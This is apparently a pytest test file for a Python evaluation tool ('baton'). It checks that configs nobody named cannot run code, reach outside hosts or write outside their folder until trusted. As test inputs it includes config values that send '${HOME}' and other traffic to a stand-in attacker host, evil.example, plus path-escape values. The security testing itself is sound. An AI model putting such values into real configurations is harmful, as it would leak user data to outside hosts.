"""Files that were found, not named, run code only where the user said so."""

from __future__ import annotations

import json
import os
import pty
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from tests.processes import NO_OTHER_PLUGINS

import baton as api
from baton.cli import main
from baton.model import InputError

AGENT = "import pathlib\npathlib.Path('ran').touch()\ndef reply(message): return 'done'\n"
CASES = "cases: [{id: a, input: hi, response: done}]\n"
CONFIG = "dataset: cases.yaml\nproviders: [{type: python, target: 'agent.py:reply'}]\n"


class Told(NamedTuple):
    code: int
    err: str


Run = Callable[..., Told]


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    """Run the command line in an unpacked archive, which nobody has trusted."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "agent.py").write_text(AGENT)
    (tmp_path / "cases.yaml").write_text(CASES)

    def told(*words: str) -> Told:
        capsys.readouterr()
        return Told(main(words), capsys.readouterr().err)

    return told


def ran() -> bool:
    """Tell whether the code ran, and forget it."""
    there = Path("ran").exists()
    Path("ran").unlink(missing_ok=True)
    for name in [each for each in sys.modules if each.startswith("baton_user_")]:
        del sys.modules[name]
    return there


def store() -> Path:
    return Path(os.environ["XDG_CONFIG_HOME"]) / "baton" / "trusted.json"


def test_a_found_config_that_names_code_is_refused_with_the_words_that_allow_it(run: Run) -> None:
    Path("baton.yaml").write_text(CONFIG)
    outcome = run("eval")
    assert outcome.code == 2
    assert not ran()
    assert outcome.err.startswith("baton: baton.yaml:2: providers[0].type: runs code")
    assert "`agent.py:reply`" in outcome.err
    assert "baton eval baton.yaml" in outcome.err
    assert "--trust ." in outcome.err
    assert outcome.err.count("\n") == 1


def test_trust_is_remembered_until_the_file_changes(run: Run) -> None:
    Path("baton.yaml").write_text(CONFIG)
    assert run("eval", "--trust", ".").code == 0
    assert ran()
    assert stat.S_IMODE(store().stat().st_mode) == 0o600
    assert run("eval").code == 0
    assert ran()
    Path("baton.yaml").write_text(CONFIG + "timeout: 5\n")
    changed = run("eval")
    assert (changed.code, "which has changed since you trusted it" in changed.err) == (2, True)
    assert not ran()
    assert run("eval", "--trust", ".").code == 0
    assert run("eval").code == 0


def test_trust_is_for_one_folder(run: Run, tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()
    Path("baton.yaml").write_text(CONFIG)
    assert run("eval", "--trust", "mine").code == 2
    assert not ran()
    assert "is not a folder" in run("eval", "--trust", "nowhere").err


def test_a_config_that_is_named_is_trusted(run: Run) -> None:
    Path("baton.yaml").write_text(CONFIG)
    assert run("eval", "baton.yaml").code == 0
    assert ran()
    assert not store().exists()


@pytest.mark.parametrize(
    ("more", "claim"),
    [
        ("evaluators: ['agent.py:reply']", "evaluators[0]: runs code: evaluator `agent.py:reply`"),
        (
            "evaluators: [{type: adk_custom_metric, config: {function: agent.reply}}]",
            "evaluators[0]: runs code",
        ),
        ("backend: 'agent:reply'", "backend: runs code"),
        ("backend: {type: 'agent:reply'}", "backend: runs code"),
        ("providers: [{type: adk_local, path: agents}]", "runs code: provider `adk_local`"),
        ("providers: [{type: claude_sdk}]", "runs code: provider `claude_sdk`"),
        (
            "providers: [{type: adk_http, endpoint_url: 'http://localhost:1', restart: touch ran}]",
            "providers[0].restart: runs code",
        ),
        (
            "providers: [{type: mock, hooks: {before_case: 'agent.py:reply'}}]",
            "providers[0].hooks: runs code",
        ),
        ("providers: [{type: http, url: 'http://evil.example/${HOME}'}]", "to `evil.example`"),
        (
            "judge: {model: 'openai:x', base_url: 'https://evil.example/v1'}",
            "judge.base_url: talks to `evil.example`",
        ),
        (
            "judge: {model: 'openai:x', fallback: [{model: 'openai:y', base_url: 'http://1.2.3.4/'}]}",
            "talks to `1.2.3.4`",
        ),
        ("reporters: [{type: otlp, endpoint: 'https://evil.example'}]", "talks to `evil.example`"),
        ("reporters: [{type: html, output_path: ../out.html}]", "writes outside its folder"),
        ("judge: {cache: /tmp/elsewhere.sqlite}", "judge.cache: writes outside its folder"),
    ],
)
def test_all_that_a_found_config_could_do_is_reported_before_anything_runs(
    run: Run, more: str, claim: str
) -> None:
    lines = {"dataset": "dataset: cases.yaml", "providers": "providers: [{type: mock}]"}
    lines[more.partition(":")[0]] = more
    Path("baton.yaml").write_text("\n".join(lines.values()))
    outcome = run("eval")
    assert outcome.code == 2, outcome
    assert claim in outcome.err
    assert "you did not name this file" in outcome.err
    assert not ran()
    assert not Path("../out.html").exists()


def test_a_found_config_that_names_no_code_asks_nothing(run: Run) -> None:
    Path("baton.yaml").write_text(
        "dataset: cases.yaml\nproviders: [{type: mock}]\n"
        "reporters: [{type: json, output_path: out/report.json}]\n"
        "evaluators:\n- type: response\n  config: {json_schema: {$schema: "
        "'https://json-schema.org/draft/2020-12/schema'}, contains: 'see https://x.example/ now'}\n"
    )
    assert "nobody named" not in run("eval").err
    assert Path("out/report.json").exists()
    assert not store().exists()


@pytest.mark.parametrize("damage", ["{", '{"a": 1}', "[]"])
def test_a_damaged_memory_of_trust_is_one_message(run: Run, damage: str) -> None:
    Path("baton.yaml").write_text(CONFIG)
    store().parent.mkdir()
    store().write_text(damage)
    store().chmod(0o600)
    outcome = run("eval")
    assert outcome.code == 2
    assert "trusted.json: is damaged: delete it" in outcome.err
    assert not ran()


def test_a_memory_that_others_can_write_is_not_believed(run: Run) -> None:
    Path("baton.yaml").write_text(CONFIG)
    assert run("eval", "--trust", ".").code == 0
    assert ran()
    store().chmod(0o666)
    outcome = run("eval")
    assert (outcome.code, ran()) == (2, False)
    assert "other users can write to this list" in outcome.err


def test_where_trust_cannot_be_remembered_it_holds_once_and_a_note_says_so(
    run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    Path("baton.yaml").write_text(CONFIG)
    Path("file").touch()
    monkeypatch.setenv("XDG_CONFIG_HOME", "file")
    outcome = run("eval", "--trust", ".")
    assert outcome.code == 0, outcome
    assert "is not remembered" in outcome.err


def at_terminal(folder: Path, answer: str) -> tuple[int, str]:
    """Run `baton eval` at a terminal, and answer what it asks."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "baton", "eval"],
        cwd=folder,
        stdin=theirs,
        stdout=subprocess.DEVNULL,
        stderr=theirs,
    )
    os.close(theirs)
    os.write(ours, answer.encode())
    told = b""
    while True:
        try:
            piece = os.read(ours, 4096)
        except OSError:
            break
        if not piece:
            break
        told += piece
    os.close(ours)
    return process.wait(timeout=60), told.decode()


def test_a_person_at_a_terminal_is_asked_once(run: Run, tmp_path: Path) -> None:
    Path("baton.yaml").write_text(CONFIG)
    code, told = at_terminal(tmp_path, "\n")
    assert (code, ran()) == (2, False)
    assert "agent.py:reply" in told
    assert "[y/N]" in told
    code, told = at_terminal(tmp_path, "y\n")
    assert (code, ran()) == (0, True)
    code, told = at_terminal(tmp_path, "")
    assert (code, ran()) == (0, True)
    assert "[y/N]" not in told
    assert run("eval").code == 0


@pytest.mark.parametrize("verb", ["check", "eval", "score"])
def test_check_and_dry_runs_import_nothing_of_the_users(
    run: Run, recordings: Path, verb: str
) -> None:
    """Not even where the config is named, or trusted."""
    Path("metrics.py").write_text(AGENT)
    Path("baton.yaml").write_text(
        f"{CONFIG}evaluators:\n- 'agent.py:reply'\n"
        "- {type: adk_custom_metric, config: {function: metrics.reply}}\n"
    )
    commands = {
        "check": ["check", "baton.yaml"],
        "eval": ["eval", "baton.yaml", "--dry-run"],
        "score": [
            *("score", str(recordings / "support_desk" / "refund.session.json")),
            *("-c", "baton.yaml", "-d", "cases.yaml", "--dry-run"),
        ],
    }
    outcome = run(*commands[verb])
    assert outcome.code == 0, outcome
    assert not ran()
    if verb == "eval":
        assert run("eval", "--dry-run", "--trust", ".").code == 0
        assert run("eval", "agent.py:reply", "cases.yaml", "--dry-run").code == 0
        assert run("eval", "baton.yaml", "--dry-run", "-e", "agent.py:reply").code == 0
        assert not ran()


def test_check_still_finds_wrong_options_of_what_it_does_not_import(run: Run) -> None:
    Path("baton.yaml").write_text(
        "evaluators:\n- {type: adk_custom_metric, config: {function: x.y, treshold: 1}}\n"
    )
    outcome = run("check", "baton.yaml")
    assert outcome.code == 2
    assert "did you mean `threshold`" in outcome.err


def eval_set(folder: Path) -> Path:
    """Write an eval set with criteria that name code beside it."""
    folder.mkdir()
    turn = {"user_content": {"parts": [{"text": "hi"}]}}
    cases = {"eval_set_id": "s", "eval_cases": [{"eval_id": "a", "conversation": [turn]}]}
    (folder / "s.evalset.json").write_text(json.dumps(cases))
    metric = {"code_config": {"name": "their_metrics.reply"}}
    told = {"criteria": {"mine": 0.5}, "custom_metrics": {"mine": metric}}
    (folder / "test_config.json").write_text(json.dumps(told, indent=1))
    (folder / "their_metrics.py").write_text(
        "import pathlib\npathlib.Path('ran').touch()\n"
        "from types import SimpleNamespace\n"
        "def reply(*given): return SimpleNamespace(overall_score=1.0)\n"
    )
    return folder / "s.evalset.json"


def test_criteria_beside_an_eval_set_run_no_code_unless_they_are_trusted(
    run: Run, tmp_path: Path
) -> None:
    cases = str(eval_set(tmp_path / "sets"))
    agent = "operator:methodcaller"
    Path("bot.py").write_text("def reply(message): return 'x'\n")
    agent = "bot.py:reply"
    outcome = run("eval", agent, cases)
    assert outcome.code == 2, outcome
    assert (
        "test_config.json:6: custom_metrics.mine: runs code: `their_metrics.reply`" in outcome.err
    )
    assert "--config_file_path" in outcome.err
    assert "--trust" in outcome.err
    assert not ran()
    assert run("eval", agent, cases, "--dry-run").code == 0
    assert run("check", str(tmp_path / "sets")).code == 0
    with pytest.raises(InputError, match="trust="):
        api.evaluate(cases, {"type": "python", "target": agent})
    assert not ran()
    assert run("eval", agent, cases, "--trust", "sets").code == 0
    assert ran()
    found = api.evaluate(cases, {"type": "python", "target": agent}, trust=tmp_path / "sets")
    assert found.status == "passed"


def test_criteria_that_are_named_are_trusted(run: Run, tmp_path: Path) -> None:
    cases = str(eval_set(tmp_path / "sets"))
    Path("bot.py").write_text("def reply(message): return 'x'\n")
    named = "sets/test_config.json"
    assert run("eval", "bot.py:reply", cases, "--config_file_path", named).code == 0


def test_pytest_asks_too_and_its_ini_file_answers(run: Run, tmp_path: Path) -> None:
    eval_set(tmp_path / "sets")
    Path("bot.py").write_text("def reply(message): return 'x'\n")
    Path("baton.yaml").write_text(CONFIG)
    ini = "[pytest]\nbaton = true\nbaton_agent = bot.py:reply\n"
    (tmp_path / "pytest.ini").write_text(ini)
    command = [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-q"]
    command += ["-p", "baton.pytest_plugin"]
    alone = {**os.environ, **NO_OTHER_PLUGINS}
    how: dict[str, Any] = {"capture_output": True, "text": True, "env": alone}
    done = subprocess.run(command, check=False, cwd=tmp_path, **how)
    assert done.returncode == 2, done.stdout
    assert "baton_trust" in done.stdout
    assert not ran()
    (tmp_path / "pytest.ini").write_text(f"{ini}baton_trust = sets .\n")
    done = subprocess.run(command, check=False, cwd=tmp_path, **how)
    assert done.returncode == 0, done.stdout
    assert "2 passed" in done.stdout


def test_watch_asks_as_eval_does(run: Run) -> None:
    Path("baton.yaml").write_text(CONFIG)
    outcome = run("watch")
    assert outcome.code == 2
    assert "--trust ." in outcome.err
    assert not ran()


def test_init_trusts_what_it_wrote(run: Run) -> None:
    Path("agent.py").write_text(
        "def reply(message): return {'output': 'done', 'agents': ['desk'], 'tool_calls': []}\n"
    )
    words = ("--agent", "agent.py:reply", "--message", "hi", "--ci", "github", "--force")
    assert run("init", *words).code == 0
    assert run("eval").code == 0
    assert "baton eval baton.yaml" in Path(".github/workflows/baton.yml").read_text()


def test_workers_of_a_backend_trust_what_the_command_trusted(run: Run, tmp_path: Path) -> None:
    cases = str(eval_set(tmp_path / "sets"))
    Path("bot.py").write_text("def reply(message): return 'x'\n")
    words = ("eval", "bot.py:reply", cases, "--backend", "local", "--workers", "1")
    assert run(*words).code == 2
    assert not ran()
    assert run(*words, "--trust", "sets").code == 0
